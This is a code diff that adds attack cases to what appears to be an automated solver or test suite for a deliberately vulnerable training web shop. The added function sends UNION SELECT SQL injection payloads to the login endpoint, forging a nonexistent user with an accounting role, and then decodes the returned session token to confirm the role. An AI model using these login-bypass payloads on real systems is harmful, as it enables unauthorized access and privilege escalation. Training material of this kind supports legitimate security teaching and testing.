@@ -30,6 +30,23 @@ function behindAddress(challenge: string, person: string): Attack[] {
   ]
 }
 
+/** Has the question answer itself with somebody who does not exist, and sees what the staff may see. */
+async function hire(tools: Tools, row: (email: string) => string): Promise<void> {
+  const { http, settings, expect } = tools
+  const owner = `acc0unt4nt@${settings.domain}`
+  const answer = await http.post('/rest/user/login', {
+    email: `' UNION SELECT ${row(owner)}--`,
+    password: 'a',
+  })
+  expect(answer.status === 200, `the login answered with ${answer.status}`)
+  const { umail, token } = answer.json<{ authentication: { umail: string; token: string } }>().authentication
+  expect(umail === owner, `the session belongs to ${umail}`)
+  const { role } = JSON.parse(
+    atob((token.split('.')[1] ?? '').replaceAll('-', '+').replaceAll('_', '/')),
+  ).data
+  expect(role === 'accounting', `the accountant is ${role}`)
+}
+
 export const attacks: Attack[] = [
   {
     challenge: 'loginAdminChallenge',
@@ -44,4 +61,24 @@ export const attacks: Attack[] = [
   ...behindAddress('loginAdminChallenge', 'admin'),
   ...behindAddress('loginJimChallenge', 'jim'),
   ...behindAddress('loginBenderChallenge', 'bender'),
+  {
+    challenge: 'ephemeralAccountantChallenge',
+    name: 'a UNION that brings its own accountant along',
+    run: (tools) =>
+      hire(
+        tools,
+        (email) =>
+          `* FROM (SELECT 15 as 'id', '' as 'username', '${email}' as 'email', '12345' as 'password', ` +
+          `'accounting' as 'role', '123' as 'deluxeToken', '1.2.3.4' as 'lastLoginIp' , ` +
+          `'/assets/public/images/uploads/default.svg' as 'profileImage', '' as 'totpSecret', 1 as 'isActive', ` +
+          `'1999-08-16 14:14:41.644 +00:00' as 'createdAt', '1999-08-16 14:33:41.930 +00:00' as 'updatedAt', ` +
+          `null as 'deletedAt')`,
+      ),
+  },
+  {
+    challenge: 'ephemeralAccountantChallenge',
+    name: 'thirteen bare values in the order of the table',
+    run: (tools) =>
+      hire(tools, (email) => `2, '', '${email}', '', 'accounting', '', '', '', '', 1, 0, 0, NULL`),
+  },
 ]
